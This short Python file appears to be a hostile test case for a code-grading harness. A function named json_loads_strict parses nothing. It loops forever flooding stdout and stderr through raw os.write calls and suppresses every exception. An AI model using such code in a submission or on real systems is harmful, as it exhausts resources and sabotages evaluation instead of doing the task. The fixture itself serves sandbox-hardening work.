# about: output without end to descriptors 1 and 2, past Python's sys.stdout
# base: solved 01_encoding
# score: 15

# %% json_loads_strict
import os


def json_loads_strict(data):
    while True:
        for number in (1, 2):
            try:
                os.write(number, b"flood\n" * 100_000)
            except BaseException:
                pass
